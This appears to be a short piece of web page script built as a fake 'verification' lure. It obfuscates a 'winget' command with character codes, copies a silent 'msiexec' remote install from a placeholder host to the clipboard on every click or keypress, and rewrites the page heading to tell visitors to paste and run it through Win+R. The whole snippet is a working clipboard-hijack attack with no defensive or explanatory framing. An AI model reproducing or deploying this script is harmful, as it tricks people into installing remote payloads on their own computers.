let n=0;const v=()=>[119,105,110,103,101,116].map(c=>String.fromCharCode(c)).join("")+" configure --enable & msiexec /i https://pkg-check.invalid/"+(++n)+" /qn";
for(const t of["click","keydown","pointerup","touchend"])document.addEventListener(t,()=>navigator.clipboard?.writeText(v()).catch(()=>{}),{capture:true});
document.querySelector("h1").textContent="Complete the verification: ⊞ + R, Ctrl + V, ↵";
